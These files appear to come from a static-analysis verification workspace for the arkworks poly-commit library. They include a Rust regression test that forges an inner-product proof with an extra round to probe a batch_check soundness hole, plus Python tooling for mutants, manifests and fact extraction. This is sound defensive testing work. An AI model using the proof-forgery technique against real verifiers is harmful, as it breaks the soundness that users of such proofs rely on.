            r.serialize_uncompressed(&mut bytes).unwrap();
            round_challenge = ro(&bytes);
            let inv = round_challenge.inverse().unwrap();
            let na: Vec<Fr> = a_l.iter().zip(a_r).map(|(x, y)| *x + inv * y).collect();
            let nz: Vec<Fr> = z_l.iter().zip(z_r).map(|(x, y)| *x + round_challenge * y).collect();
            let nk: Vec<_> = k_l.iter().zip(k_r).map(|(x, y)| *x + *y * round_challenge).collect();
            a = na;
            zs = nz;
            key = nk;
            m = half;
        }
        let proof = super::Proof::<G> {
            l_vec,
            r_vec,
            final_comm_key: key[0].into_affine(),
            c: a[0],
            hiding_comm: None,
            rand: None,
        };

        // single check refuses the wrong number of rounds
        let mut s1 = poseidon_sponge_for_test::<Fr>();
        assert!(PC_JJB2S::check(&vk, &comms, &z, [v_claimed], &proof, &mut s1, Some(rng)).is_err());

        // batch_check had no such guard
        let mut query_set = QuerySet::new();
        query_set.insert(("p".to_string(), ("z".to_string(), z)));
        let mut evals = Evaluations::new();
        evals.insert(("p".to_string(), z), v_claimed);
        let mut s2 = poseidon_sponge_for_test::<Fr>();
        let res = PC_JJB2S::batch_check(&vk, &comms, &query_set, &evals, &vec![proof].into(), &mut s2, rng);
        assert_ne!(res.ok(), Some(true), "batch_check accepted p(z) + 1 with a proof that has one extra round");
    }
