#!/usr/bin/env python3
"""regenerates MANIFEST.json from the property modules (developer helper)."""
import importlib, json, os, sys, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
props = [json.loads(l) for l in open('/verif/properties.jsonl')]
CLAIMS = json.load(open('/verif/claims.json'))
checks = []
na = []
for p in props:
    pid = p['id']
    c = CLAIMS.get(pid)
    if not c or c.get('na'):
        na.append({"property_id": pid, "reason": (c or {}).get('na', 'check not built yet (work in progress)')})
        continue
    checks.append({
        "property_id": pid,
        "quick_cmd": "./check %s --tier quick" % pid,
        "thorough_cmd": "./check %s --tier thorough" % pid,
        "evidence_file": "/verif/evidence/%s.json" % pid,
        "replay_cmd_template": "./check --replay {path}",
        "engine": "pcv",
        "level_claimed": {"category": "other", "text": c['text'], "design_ref": c['design_ref']},
        "level_note": c['note'],
        "technique": c['technique'],
    })
fixes = subprocess.check_output(['git','-C','/repo','log','--format=%h %s','2316899..HEAD'], text=True).strip().splitlines()
m = {"version": 1,
     "setup_cmd": "python3 -m pcv.setup",
     "hooks": {"guard": "arkworks_rs_poly_commit_verif",
               "enable": "none needed: the analysis reads /repo's source through the compiler (cargo +nightly check with the pcv-driver as RUSTC_WORKSPACE_WRAPPER); no hook code exists in /repo",
               "baseline_off_cmd": "cd /repo && cargo test --workspace --no-fail-fast --offline",
               "source_commits": [l.split()[0] for l in fixes],
               "add_only": True},
     "engines": [{"name": "pcv", "path": "/verif/pcv", "serves_properties": [c['property_id'] for c in checks],
                  "kind_free_text": "static analysis: rustc_private fact extractor (driver/) + typed, context-sensitive may-dependence engine and rule checkers over MIR/HIR facts (pcv/)"}],
     "checks": checks,
     "notes": "Every check decides a named structural necessary condition of its property from /repo's current source (see DESIGN.md section 4); none runs the library. source_commits lists the unguarded fix: commits (genuine defects repaired); there are no hook commits.",
     "not_applicable": na}
json.dump(m, open('/verif/MANIFEST.json', 'w'), indent=1)
print(len(checks), 'checks,', len(na), 'not applicable')
