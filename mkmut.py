#!/usr/bin/env python3
"""developer helper: create mutants/<id>.diff from (file, old, new) replacements against /repo via /tmp/mw."""
import subprocess, sys, json, os
def mut(id, edits, props, what, expect=None, silent=False, cfg=None):
    subprocess.check_call(['/verif/mkmut.sh','--reset'])
    for path, old, new in edits:
        p='/tmp/mw/poly-commit/src/'+path
        s=open(p).read()
        if s.count(old)<1:
            print('!!', id, 'pattern not found in', path); return
        s=s.replace(old,new,1)
        open(p,'w').write(s)
    n=subprocess.check_output(['/verif/mkmut.sh', id]).decode().strip()
    idxp='/verif/mutants/index.json'
    idx=json.load(open(idxp))
    idx=[m for m in idx if m['id']!=id]
    e={"id":id,"file":id+".diff","properties":props,"what":what}
    if expect: e["expect"]=expect
    if silent: e["silent"]=True
    if cfg: e["cfg"]=cfg
    idx.append(e)
    json.dump(idx,open(idxp,'w'),indent=1)
    print(id,'hunks',n)
