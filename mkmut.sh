#!/bin/bash
# developer helper: /tmp/mw is an edited scratch copy of /repo; save the difference as mutants/<id>.diff and reset /tmp/mw
# usage: ./mkmut.sh <id>   |  ./mkmut.sh --reset
set -e
if [ "$1" = "--reset" ]; then mkdir -p /tmp/mw; rsync -a --delete --exclude target --exclude .git /repo/ /tmp/mw/; exit 0; fi
cd /tmp
(diff -ruN -x target -x .git /repo/poly-commit/src /tmp/mw/poly-commit/src || true) | sed -e 's#^--- /repo/#--- a/#' -e 's#^+++ /tmp/mw/#+++ b/#' -e 's#^diff -ruN .* /repo/\(.*\) /tmp/mw/\(.*\)$#diff -ruN a/\1 b/\2#' > /verif/mutants/$1.diff
rsync -a --delete --exclude target --exclude .git /repo/ /tmp/mw/
grep -c '^@@' /verif/mutants/$1.diff
