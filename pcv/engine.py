"""Shared machinery: analysis context, verifier anchors, result collection, evidence and verdict."""
import hashlib
import json
import os
import sys
import time

from . import tables as T
from .extract import VERIF, extract, source_digest
from .facts import Facts
from .flow import OUTCOME, Graph, payload_nodes

EVID = os.path.join(VERIF, "evidence")


class Anchor:
    def __init__(self, key, body, ctx_adt, roles, info, method):
        self.key = key            # stable key, e.g. "marlin_kzg10.check" or "hyrax.batch_check(default)"
        self.body = body
        self.ctx_adt = ctx_adt
        self.roles = roles
        self.info = info          # scheme / inherent table row
        self.method = method


class Ctx:
    def __init__(self, cfg="default", repo=None):
        self.cfg = cfg
        path, digest, secs, fresh = extract(cfg, repo=repo)
        self.facts_path = path
        self.digest = digest
        self.extract_secs = secs
        self.fresh = fresh
        self.facts = Facts(path)
        self._graphs = {}

    # ------------------------------------------------------------------ anchors
    def verifier_anchors(self, missing):
        """all verifier anchors of DESIGN.md 4/C02. `missing` collects keys of anchors that are absent."""
        f = self.facts
        out = []
        for sk, info in T.SCHEMES.items():
            for m in ("check", "batch_check", "check_combinations"):
                if m in info["own"]:
                    b = f.find1(m, self_adt=info["adt"], trait=T.PC)
                    key = "%s.%s" % (sk, m)
                    if b is None:
                        missing.append(key)
                        continue
                    out.append(Anchor(key, b, info["adt"], T.ROLES[m], info, m))
                elif sk in T.DEFAULT_USERS.get(m, ()):
                    b = f.find1(m, in_trait=T.PC)
                    key = "%s.%s(default)" % (sk, m)
                    if b is None:
                        missing.append(key)
                        continue
                    out.append(Anchor(key, b, info["adt"], T.ROLES[m], info, m))
        for key, info in T.INHERENT_VERIFIERS.items():
            b = f.find1(**info["find"])
            if b is None:
                missing.append(key)
                continue
            out.append(Anchor(key, b, None, info["roles"], info, info["find"]["name"]))
        return out

    def trait_default(self, m):
        return self.facts.find1(m, in_trait=T.PC)

    def graph(self, anchor):
        k = (anchor.body.id, anchor.ctx_adt)
        if k not in self._graphs:
            scope = self.facts.closure([anchor.body.id], anchor.ctx_adt)
            self._graphs[k] = Graph(self.facts, scope, [anchor.body.id], anchor.ctx_adt)
        return self._graphs[k]

    # ------------------------------------------------------------------ node predicates
    def has_bound(self, g, n, traits):
        if not (isinstance(n, tuple) and len(n) == 2 and isinstance(n[1], int) and n[1] >= 0):
            return False
        if n[0] not in self.facts.bodies:
            return False
        bs = self.facts.bodies[n[0]].locals[n[1]].get("bounds", ())
        return any(t in bs for t in traits)

    def sponge_cut(self, g):
        """edge filter "challenges held fixed": absorbing into the sponge does not taint it, and hashing into a
        `digest::Digest` (the hand-rolled random oracle of the IPA scheme) does not taint the digest."""
        sp = (T.SPONGE_TRAIT,)
        f = self.facts

        def cut(n, e):
            if self.has_bound(g, e.dst, sp) and not self.has_bound(g, n, sp):
                return True
            if e.site is not None and e.op in ("foreign", "shape"):
                t = f.bodies[e.site[0]].blocks[e.site[1]]["term"]
                if t.get("callee_trait") in T.ORACLE_TRAITS:
                    return True
            return False
        return cut


class Report:
    """collects rule instances for one property run."""

    def __init__(self, prop, tier, cfgs):
        self.prop = prop
        self.tier = tier
        self.cfgs = cfgs
        self.t0 = time.time()
        self.instances = []     # dicts: key, rule, ok, detail, where
        self.notes = []
        self.counts = {}
        self.selftest = None

    def add(self, rule, key, ok, detail, where=None, nontrivial=True):
        self.instances.append(dict(rule=rule, key="%s:%s:%s" % (self.prop, rule, key), ok=bool(ok), detail=detail,
                                   where=where, nontrivial=nontrivial))

    def note(self, s):
        self.notes.append(s)

    def count(self, k, n=1):
        self.counts[k] = self.counts.get(k, 0) + n


def load_known():
    p = os.path.join(VERIF, "known_findings.json")
    if not os.path.exists(p):
        return {}, []
    with open(p) as f:
        d = json.load(f)
    known = {e["key"]: e for e in d.get("known", [])}
    fixed = d.get("fixed", [])
    return known, fixed


def finish(rep, ctxs, explanation, rule_text, trusted, assumptions, extra=None):
    """print the verdict lines, write evidence and replay files, return the exit code."""
    known, _fixed = load_known()
    os.makedirs(os.path.join(EVID, "replay"), exist_ok=True)
    viol = [i for i in rep.instances if not i["ok"]]
    # de-duplicate by key (several configurations may report the same instance)
    seen = {}
    for i in viol:
        seen.setdefault(i["key"], i)
    new = []
    for key, i in sorted(seen.items()):
        if key in known:
            print("KNOWN-FINDING: property=%s %s %s" % (rep.prop, key, known[key].get("what", i["detail"])))
        else:
            new.append(i)
    rc = 0
    for i in new:
        h = hashlib.sha256(i["key"].encode()).hexdigest()[:16]
        rp = os.path.join(EVID, "replay", "%s-%s.json" % (rep.prop, h))
        with open(rp, "w") as f:
            json.dump(dict(property=rep.prop, key=i["key"], rule=i["rule"], detail=i["detail"], where=i["where"],
                           tier=rep.tier, digest=[c.digest for c in ctxs]), f, indent=1)
        print("  violation: %s\n     %s\n     at %s" % (i["key"], i["detail"], i["where"]))
        print("VIOLATION property=%s replay=%s" % (rep.prop, rp))
        rc = 1
    keys = sorted({i["key"] for i in rep.instances})
    okkeys = sorted({i["key"] for i in rep.instances if i["ok"]})
    nontriv = sorted({i["key"] for i in rep.instances if i["nontrivial"]})
    samples = []
    by_rule = {}
    for i in rep.instances:
        by_rule.setdefault(i["rule"], []).append(i)
    for r, lst in sorted(by_rule.items()):
        for i in lst[:3]:
            samples.append(dict(rule=r, key=i["key"], holds=i["ok"], detail=i["detail"], where=i["where"]))
    for i in viol[:10]:
        samples.append(dict(rule=i["rule"], key=i["key"], holds=False, detail=i["detail"], where=i["where"],
                            known=i["key"] in known))
    cov = dict(
        explanation=explanation,
        rule=rule_text,
        obligations=len(keys),
        discharged=len(okkeys),
        evaluations=len(rep.instances),
        distinct_nontrivial=len(nontriv),
        samples=samples,
        checker_cmd="./check %s --tier %s" % (rep.prop, rep.tier),
        trusted_base=trusted,
        configs=rep.cfgs,
        source_digests={c.cfg: c.digest for c in ctxs},
        bodies_analysed={c.cfg: len(c.facts.bodies) for c in ctxs},
        per_rule={r: dict(instances=len(l), holding=sum(1 for i in l if i["ok"])) for r, l in by_rule.items()},
        counts=rep.counts,
        notes=rep.notes,
        known_findings_reported=sorted(k for k in seen if k in known),
        new_violations=[i["key"] for i in new],
        exhaustive=True,
    )
    if rep.selftest is not None:
        cov["selftest"] = rep.selftest
    if extra:
        cov.update(extra)
    ev = dict(property_id=rep.prop, tier=rep.tier, seed=int(os.environ.get("VERIF_SEED", "0") or 0), level="other",
              coverage=cov, assumptions=assumptions, wall_s=round(time.time() - rep.t0, 2), violations=len(new))
    with open(os.path.join(EVID, "%s.json" % rep.prop), "w") as f:
        json.dump(ev, f, indent=1)
    print("%s: %d rule instances, %d hold, %d known findings, %d new violations (%.1fs, configs %s)" % (
        rep.prop, len(keys), len(okkeys), len([k for k in seen if k in known]), len(new), time.time() - rep.t0,
        ",".join(rep.cfgs)))
    return rc


def short(bid):
    """compact body name for messages."""
    s = bid
    if " as " in s and s.startswith("<"):
        head, tail = s[1:].split(" as ", 1)
        meth = tail.rsplit(">::", 1)[-1]
        s = "%s::%s" % (head.split("<")[0], meth)
    return s


def where_of(facts, bid, bb=None):
    b = facts.bodies.get(bid)
    if b is None:
        return None
    if bb is not None:
        return b.blocks[bb]["term"].get("span") or b.span
    return b.span
