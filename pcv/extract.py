"""Run the driver over /repo's current working tree and return the fact files (DESIGN.md 2.1)."""
import hashlib
import os
import shutil
import subprocess
import sys
import time

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.environ.get("PCV_REPO", "/repo")
CACHE = os.path.join(VERIF, ".cache")
DRIVER_DIR = os.path.join(VERIF, "driver")
DRIVER = os.path.join(DRIVER_DIR, "target", "debug", "pcv-driver")

CONFIGS = {
    "default": [],
    "nopar": ["--no-default-features", "--features", "std"],
    "r1cs": ["--features", "r1cs"],
}


def driver_digest():
    h = hashlib.sha256()
    d = os.path.join(DRIVER_DIR, "src")
    for fn in sorted(os.listdir(d)):
        with open(os.path.join(d, fn), "rb") as f:
            h.update(fn.encode() + b"\0" + f.read())
    return h.hexdigest()[:8]


def source_digest(repo=None):
    repo = repo or REPO
    h = hashlib.sha256()
    h.update(driver_digest().encode())     # facts written by another version of the extractor are never reused
    paths = []
    for root, dirs, files in os.walk(repo):
        dirs[:] = sorted(d for d in dirs if d not in ("target", ".git"))
        for fn in sorted(files):
            if fn.endswith(".rs") or fn in ("Cargo.toml", "Cargo.lock"):
                paths.append(os.path.join(root, fn))
    for p in paths:
        h.update(os.path.relpath(p, repo).encode())
        h.update(b"\0")
        with open(p, "rb") as f:
            h.update(f.read())
        h.update(b"\0")
    return h.hexdigest()[:24]


def sysroot():
    return subprocess.check_output(["rustc", "+nightly", "--print", "sysroot"], text=True).strip()


def build_driver():
    if os.path.exists(DRIVER):
        newest = max(os.path.getmtime(os.path.join(DRIVER_DIR, "src", f)) for f in os.listdir(os.path.join(DRIVER_DIR, "src")))
        if os.path.getmtime(DRIVER) >= newest:
            return
    env = dict(os.environ, CARGO_NET_OFFLINE="true")
    r = subprocess.run(["cargo", "build", "--offline"], cwd=DRIVER_DIR, env=env, stdout=subprocess.PIPE,
                       stderr=subprocess.STDOUT, text=True)
    if r.returncode != 0:
        sys.stderr.write(r.stdout)
        raise SystemExit("pcv: driver build failed")


def facts_path(cfg, repo=None, digest=None):
    digest = digest or source_digest(repo)
    return os.path.join(CACHE, "facts-%s-%s.json" % (cfg, digest))


def extract(cfg="default", repo=None, force=False, target_dir=None):
    """returns (path, digest, seconds, fresh). Re-runs the compiler unless a fact file for exactly this
    source digest exists (files are content-addressed, so a stale file cannot be picked up)."""
    repo = repo or REPO
    os.makedirs(CACHE, exist_ok=True)
    digest = source_digest(repo)
    out = facts_path(cfg, repo, digest)
    if os.path.exists(out) and not force:
        return out, digest, 0.0, False
    import fcntl
    # self-test workers run in parallel: each has a cargo target directory (and lock) of its own
    worker = os.environ.get("PCV_WORKER", "")
    wsfx = ("-w" + worker) if worker else ""
    lock = open(os.path.join(CACHE, "lock-" + cfg + wsfx), "w")
    fcntl.flock(lock, fcntl.LOCK_EX)
    if os.path.exists(out) and not force:
        return out, digest, 0.0, False
    build_driver()
    t0 = time.time()
    tgt = target_dir or os.path.join(CACHE, "tgt-" + cfg + wsfx)
    # cargo's freshness cache would skip the wrapper: drop the local crate's fingerprints
    fp = os.path.join(tgt, "debug", ".fingerprint")
    if os.path.isdir(fp):
        for d in os.listdir(fp):
            if d.startswith("ark-poly-commit-"):
                shutil.rmtree(os.path.join(fp, d), ignore_errors=True)
    nonce = "%s-%d-%d" % (digest, os.getpid(), int(t0 * 1000))
    tmp_out = out + ".part.%d" % os.getpid()
    env = dict(os.environ)
    env.update({
        "LD_LIBRARY_PATH": os.path.join(sysroot(), "lib") + ":" + env.get("LD_LIBRARY_PATH", ""),
        "RUSTFLAGS": "-Zmir-opt-level=0 -Awarnings",
        "RUSTC_WORKSPACE_WRAPPER": DRIVER,
        "PCV_OUT": tmp_out,
        "PCV_NONCE": nonce,
        "CARGO_TARGET_DIR": tgt,
        "CARGO_NET_OFFLINE": "true",
    })
    cmd = ["cargo", "+nightly", "check", "--offline", "-p", "ark-poly-commit", "--lib"] + CONFIGS[cfg]
    r = subprocess.run(cmd, cwd=repo, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if r.returncode != 0 or not os.path.exists(tmp_out):
        sys.stderr.write(r.stdout[-4000:])
        raise SystemExit("pcv: fact extraction failed for config %s (the tree does not build?)" % cfg)
    # the nonce must be the one we passed: proves the file was written by this run
    with open(tmp_out) as f:
        head = f.read(200)
    if nonce not in head:
        raise SystemExit("pcv: fact file nonce mismatch")
    os.replace(tmp_out, out)
    # keep the cache small: drop fact files of other digests for this config
    # (only files that have not been touched for a while: a parallel worker may be about to load its own)
    for fn in os.listdir(CACHE):
        fp2 = os.path.join(CACHE, fn)
        if fn.startswith("facts-%s-" % cfg) and fn.endswith(".json") and fp2 != out:
            try:
                if time.time() - os.path.getmtime(fp2) > 1200:
                    os.remove(fp2)
            except OSError:
                pass
    return out, digest, time.time() - t0, True


if __name__ == "__main__":
    cfgs = sys.argv[1:] or ["default"]
    for c in cfgs:
        print(extract(c, force=True))
