"""Load and index the fact file written by the driver; CFG utilities; call graph."""
import json
import sys
from collections import defaultdict


class Body:
    __slots__ = ("j", "id", "name", "kind", "root", "blocks", "locals", "arg_count", "facts", "_tupdefs", "upvar_locals",
                 "_succ", "_pred", "_dom", "_pdom", "_cd", "_div", "_reach_ret")

    def __init__(self, j, facts):
        self.j = j
        self.facts = facts
        self.id = j["id"]
        self.name = j.get("name")
        self.kind = j["kind"]
        self.root = j["root"]
        self.blocks = j["blocks"]
        self.locals = j["locals"]
        self.arg_count = j["arg_count"]
        self.upvar_locals = {}
        self._tupdefs = None
        self._succ = None
        self._pred = None
        self._dom = None
        self._pdom = None
        self._cd = None
        self._div = None
        self._reach_ret = None

    # ---------- identity helpers
    @property
    def self_adt(self):
        return self.j.get("impl_self_adt")

    @property
    def impl_trait(self):
        return self.j.get("impl_trait")

    @property
    def in_trait(self):
        return self.j.get("in_trait")

    @property
    def span(self):
        return self.j.get("span")

    def file(self):
        return self.span.split(":")[0]

    # ---------- CFG (normal edges only; unwind edges are not followed)
    def succ(self):
        if self._succ is None:
            s = []
            for b in self.blocks:
                t = b["term"]
                k = t["k"]
                if k == "goto":
                    s.append([t["t"]])
                elif k == "switch":
                    out = []
                    for _, bb in t["targets"]:
                        if bb not in out:
                            out.append(bb)
                    if t["otherwise"] not in out:
                        out.append(t["otherwise"])
                    s.append(out)
                elif k in ("drop", "assert"):
                    s.append([t["t"]])
                elif k == "call":
                    s.append([t["t"]] if t["t"] is not None else [])
                else:
                    s.append([])
            self._succ = s
        return self._succ

    def pred(self):
        if self._pred is None:
            p = [[] for _ in self.blocks]
            for i, ss in enumerate(self.succ()):
                for x in ss:
                    p[x].append(i)
            self._pred = p
        return self._pred

    def reachable(self):
        seen = {0}
        st = [0]
        s = self.succ()
        while st:
            x = st.pop()
            for y in s[x]:
                if y not in seen:
                    seen.add(y)
                    st.append(y)
        return seen

    def can_reach_return(self):
        """set of blocks from which a Return terminator is reachable (normal edges)."""
        if self._reach_ret is None:
            rets = [i for i, b in enumerate(self.blocks) if b["term"]["k"] == "return"]
            seen = set(rets)
            st = list(rets)
            p = self.pred()
            while st:
                x = st.pop()
                for y in p[x]:
                    if y not in seen:
                        seen.add(y)
                        st.append(y)
            self._reach_ret = seen
        return self._reach_ret

    def diverging(self):
        """blocks (reachable, non-cleanup) from which no Return is reachable: panics/aborts."""
        if self._div is None:
            r = self.can_reach_return()
            self._div = {i for i in self.reachable() if i not in r}
        return self._div

    def dominators(self):
        if self._dom is None:
            self._dom = _dominators(len(self.blocks), [0], self.succ(), self.pred())
        return self._dom

    def postdominators(self):
        """post-dominators with a virtual exit (index n) reached from return blocks and from
        dead-end blocks (panics): a panic is an exit of its own."""
        if self._pdom is None:
            n = len(self.blocks)
            succ = [list(x) for x in self.succ()] + [[]]
            for i in range(n):
                if not succ[i]:
                    succ[i] = [n]
            pred = [[] for _ in range(n + 1)]
            for i, ss in enumerate(succ):
                for x in ss:
                    pred[x].append(i)
            # dominators on the reverse graph from exit
            self._pdom = _dominators(n + 1, [n], pred, succ)
        return self._pdom

    def control_deps(self):
        """block -> set of (branch block) it is control dependent on (Ferrante et al.)."""
        if self._cd is None:
            n = len(self.blocks)
            pdom = self.postdominators()  # idom map in the post-dominator tree
            ipdom = pdom
            cd = defaultdict(set)
            succ = self.succ()
            for a in range(n):
                ss = succ[a]
                if len(ss) < 2:
                    continue
                for b in ss:
                    # walk up the post-dominator tree from b until ipdom(a)
                    stop = ipdom.get(a)
                    x = b
                    guard = 0
                    while x is not None and x != stop and guard < 10000:
                        if x < n:
                            cd[x].add(a)
                        x = ipdom.get(x)
                        guard += 1
            self._cd = cd
        return self._cd

    def dominates(self, a, b):
        """does block a dominate block b?"""
        idom = self.dominators()
        x = b
        while x is not None:
            if x == a:
                return True
            if x == 0:
                return False
            x = idom.get(x)
        return False

    # ---------- iteration helpers
    def calls(self):
        for i, b in enumerate(self.blocks):
            t = b["term"]
            if t["k"] == "call":
                yield i, t

    def local_ty(self, l):
        return self.locals[l]["ty"]


def _dominators(n, roots, succ, pred):
    """immediate dominators (Cooper-Harvey-Kennedy). returns dict node->idom (roots map to None)."""
    # reverse postorder from a virtual root
    order = []
    seen = set()
    for r in roots:
        if r in seen:
            continue
        stack = [(r, iter(succ[r]))]
        seen.add(r)
        while stack:
            node, it = stack[-1]
            adv = False
            for y in it:
                if y not in seen:
                    seen.add(y)
                    stack.append((y, iter(succ[y])))
                    adv = True
                    break
            if not adv:
                order.append(node)
                stack.pop()
    rpo = list(reversed(order))
    idx = {b: i for i, b in enumerate(rpo)}
    idom = {}
    root = roots[0]
    idom[root] = root

    def intersect(a, b):
        while a != b:
            while idx[a] > idx[b]:
                a = idom[a]
            while idx[b] > idx[a]:
                b = idom[b]
        return a

    changed = True
    while changed:
        changed = False
        for b in rpo:
            if b == root:
                continue
            new = None
            for p in pred[b]:
                if p in idom and p in idx:
                    new = p if new is None else intersect(p, new)
            if new is not None and idom.get(b) != new:
                idom[b] = new
                changed = True
    out = {}
    for b, d in idom.items():
        out[b] = None if b == root else d
    return out


class Facts:
    def __init__(self, path):
        with open(path) as f:
            d = json.load(f)
        self.raw = d
        self.nonce = d["nonce"]
        self.features = d["features"]
        self.bodies = {}
        for j in d["bodies"]:
            b = Body(j, self)
            self.bodies[b.id] = b
        self.hir = {h["id"]: h for h in d["hir"] if h}
        self.adts = {a["path"]: a for a in d["adts"]}
        self.impls = d["impls"]
        self.traits = {t["path"]: t for t in d["traits"]}
        self._closures_of = defaultdict(list)
        for b in self.bodies.values():
            if b.kind == "Closure":
                self._closures_of[b.j.get("parent")].append(b.id)
        self._callees = {}
        self._split_upvars()

    def _split_upvars(self):
        """give every captured variable of a closure a local of its own: `(*_1).k` / `_1.k` (the k-th field of the
        closure environment) is rewritten to a fresh local U_k that inherits type and flags from the operand of the
        closure aggregate in the creating body. The graph binds operand k to U_k, so captures are not merged."""
        creators = {}
        for b in self.bodies.values():
            for blk in b.blocks:
                for st in blk["stmts"]:
                    rv = st["rv"]
                    if rv.get("k") == "agg" and rv.get("closure"):
                        creators.setdefault(rv["closure"], []).append((b, rv["ops"]))
        for b in self.bodies.values():
            if b.kind != "Closure" or len(b.locals) < 2:
                continue
            made = {}

            def fix(pl):
                if not isinstance(pl, dict) or pl.get("l") != 1:
                    return
                p = pl["p"]
                i = 0
                while i < len(p) and p[i] == "*":
                    i += 1
                if i > 1 or i >= len(p) or not isinstance(p[i], dict) or "f" not in p[i] or p[i].get("adt") is not None:
                    return
                k = p[i]["f"]
                if k not in made:
                    ty = p[i].get("ty")
                    loc = {"ty": ty, "copy": bool(ty) and ty.startswith("&") and not ty.startswith("&mut"),
                           "mutb": not (bool(ty) and ty.startswith("&") and "&mut" not in ty), "upvar": k}
                    cr = creators.get(b.id, [])
                    if len(cr) == 1 and k < len(cr[0][1]):
                        op = cr[0][1][k]
                        if op["k"] in ("copy", "move") and not op["pl"]["p"]:
                            src = cr[0][0].locals[op["pl"]["l"]]
                            for key in ("copy", "mutb", "bounds", "rng", "closure", "adt"):
                                if key in src:
                                    loc[key] = src[key]
                            if src.get("name"):
                                loc["name"] = src["name"]
                    names = b.j.get("upvar_names") or []
                    for kk, nm in names:
                        if kk == k and "name" not in loc:
                            loc["name"] = nm
                    b.locals.append(loc)
                    made[k] = len(b.locals) - 1
                pl["l"] = made[k]
                pl["p"] = p[i + 1:]

            for blk in b.blocks:
                for st in blk["stmts"]:
                    fix(st["dst"])
                    rv = st["rv"]
                    if "pl" in rv:
                        fix(rv["pl"])
                    for o in rv.get("ops", []):
                        if o.get("k") in ("copy", "move"):
                            fix(o["pl"])
                t = blk["term"]
                if "dst" in t:
                    fix(t["dst"])
                for a in t.get("args", []):
                    if a.get("k") in ("copy", "move"):
                        fix(a["pl"])
                if isinstance(t.get("op"), dict) and t["op"].get("k") in ("copy", "move"):
                    fix(t["op"]["pl"])
                if isinstance(t.get("pl"), dict):
                    fix(t["pl"])
            b.upvar_locals = made

    # ---------- lookup
    def find(self, name, self_adt=None, trait=None, in_trait=None, free_path=None):
        """find fn bodies by (self ADT path suffix, trait path suffix, method name)."""
        out = []
        for b in self.bodies.values():
            if b.kind == "Closure" or b.name != name:
                continue
            if free_path is not None:
                if b.id == free_path or b.id.endswith("::" + free_path):
                    out.append(b)
                continue
            if self_adt is not None and (b.self_adt or "") != self_adt:
                continue
            if self_adt is None and in_trait is None and b.self_adt is not None:
                continue
            if trait is not None:
                if trait == "" and b.impl_trait is not None:
                    continue
                if trait != "" and (b.impl_trait or "") != trait:
                    continue
            if in_trait is not None and (b.in_trait or "") != in_trait:
                continue
            if in_trait is None and b.in_trait is not None:
                continue
            out.append(b)
        return out

    def find1(self, *a, **kw):
        r = self.find(*a, **kw)
        if len(r) != 1:
            return None
        return r[0]

    # ---------- call graph
    def impl_method(self, trait, self_adt, name):
        """body id of `impl trait for self_adt`'s method `name`, if that impl has its own body."""
        for b in self.bodies.values():
            if b.kind != "Closure" and b.name == name and b.impl_trait == trait and b.self_adt == self_adt:
                return b.id
        return None

    def call_target(self, t, ctx_adt=None):
        """local body id a call terminator dispatches to, or None.
        A trait-method call whose receiver type is a type parameter (`Self::check`, `PC::batch_check`) is
        late-bound; inside the analysis scope of scheme `ctx_adt` it dispatches to that scheme's impl when it
        has one, else to the trait's default body (if any)."""
        r = t.get("resolved")
        if r and r in self.bodies:
            return r
        c = t.get("callee")
        if not c:
            return None
        tr = t.get("callee_trait")
        if tr and not r and tr in self.traits:
            # local trait, unresolved receiver
            if ctx_adt is not None and not t.get("self_adt"):
                m = self.impl_method(tr, ctx_adt, c.rsplit("::", 1)[-1])
                if m:
                    return m
            if t.get("self_adt"):
                m = self.impl_method(tr, t["self_adt"], c.rsplit("::", 1)[-1])
                if m:
                    return m
        if c in self.bodies:
            return c
        return None

    LATE_BOUND_UNION_EXCEPT = ("PolynomialCommitment",)

    def call_targets(self, t, ctx_adt=None):
        """all local bodies the call may dispatch to. A late-bound call on a local trait other than
        PolynomialCommitment (`L::encode`, `vk.sec_param()`) may reach any local impl of that method."""
        one = self.call_target(t, ctx_adt)
        r = t.get("resolved")
        tr = t.get("callee_trait")
        c = t.get("callee")
        if c and tr and not r and tr in self.traits and tr not in self.LATE_BOUND_UNION_EXCEPT and not t.get("self_adt"):
            name = c.rsplit("::", 1)[-1]
            out = [b.id for b in self.bodies.values()
                   if b.kind != "Closure" and b.name == name and b.impl_trait == tr]
            if c in self.bodies and c not in out:
                out.append(c)
            if out:
                return sorted(out)
        return [one] if one else []

    def local_callees(self, bid, ctx_adt=None):
        """ids of local bodies directly called from (or closures created in / fn items named in) body bid."""
        key = (bid, ctx_adt)
        if key in self._callees:
            return self._callees[key]
        b = self.bodies[bid]
        out = set()
        for _, t in b.calls():
            for c in self.call_targets(t, ctx_adt):
                out.add(c)
            sc = t.get("self_closure")
            if sc and sc in self.bodies:
                out.add(sc)
        for blk in b.blocks:
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "agg" and rv.get("closure") in self.bodies:
                    out.add(rv["closure"])
                for op in rv.get("ops", []):
                    if op.get("k") == "const" and op.get("fn") in self.bodies:
                        out.add(op["fn"])
            t = blk["term"]
            if t["k"] == "call":
                for op in t["args"]:
                    if op.get("k") == "const" and op.get("fn") in self.bodies:
                        out.add(op["fn"])
        self._callees[key] = out
        return out

    def closure(self, roots, ctx_adt=None):
        """all local bodies reachable from the given body ids through the local call graph."""
        seen = set()
        st = list(roots)
        while st:
            x = st.pop()
            if x in seen or x not in self.bodies:
                continue
            seen.add(x)
            st.extend(self.local_callees(x, ctx_adt))
        return seen


# ---------------------------------------------------------------- pretty printer
def fmt_place(p):
    s = "_%d" % p["l"]
    for e in p["p"]:
        if e == "*":
            s = "(*%s)" % s
        elif isinstance(e, str):
            s = "%s.<%s>" % (s, e)
        elif "f" in e:
            s = "%s.%s" % (s, e["n"] if e["n"] is not None else e["f"])
        elif "idx" in e:
            s = "%s[_%d]" % (s, e["idx"])
        elif "cidx" in e:
            s = "%s[%d]" % (s, e["cidx"])
        elif "dc" in e:
            s = "(%s as %s)" % (s, e["dc"])
    return s


def fmt_op(o):
    k = o["k"]
    if k in ("copy", "move"):
        return k + " " + fmt_place(o["pl"])
    if k == "const":
        if "fn" in o:
            return "fn " + o["fn"]
        if "val" in o:
            return "const %s" % o["val"]
        if "def" in o:
            return "const " + o["def"]
        return "const<%s>" % o["ty"]
    return k


def fmt_rv(rv):
    k = rv["k"]
    if k in ("ref", "discr", "rawptr"):
        return "%s%s %s" % (k, " mut" if rv.get("mut") else "", fmt_place(rv["pl"]))
    extra = ""
    if k == "agg":
